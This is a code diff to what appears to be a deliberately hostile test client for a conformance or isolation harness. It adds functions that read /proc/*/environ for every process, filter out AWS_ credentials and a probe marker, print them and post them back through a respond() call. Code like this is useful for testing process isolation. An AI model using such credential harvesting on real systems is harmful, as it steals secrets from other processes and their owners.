@@ -1,9 +1,10 @@
 """What it prints is hostile."""
 
+import json
 import os
 import sys
 
-from client import polled, serve
+from client import polled, respond, serve
 
 
 def out(data):
@@ -64,6 +65,28 @@ def markup():
 def its_variables():
     """prints all its variables at each event"""
     serve(lambda i: out(repr(dict(os.environ)).encode()))
+
+
+def found():
+    """Variables of all processes that it may look at, its own among them."""
+    for number in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{number}/environ", "rb") as variables:
+                yield from (each.decode("utf-8", "replace") for each in variables.read().split(b"\0"))
+        except OSError:
+            pass
+
+
+def tells_what_it_finds():
+    """prints and posts all variables of other processes that it finds"""
+    wanted = [each for each in found() if "CONFORMANCE_PROBE" in each or each.startswith("AWS_")]
+    for each in wanted:
+        out(each.encode() + b"\n")
+
+    def tell(identifier):
+        respond(identifier, json.dumps(wanted).encode())
+
+    serve(tell)
 
 
 def closes_its_output():
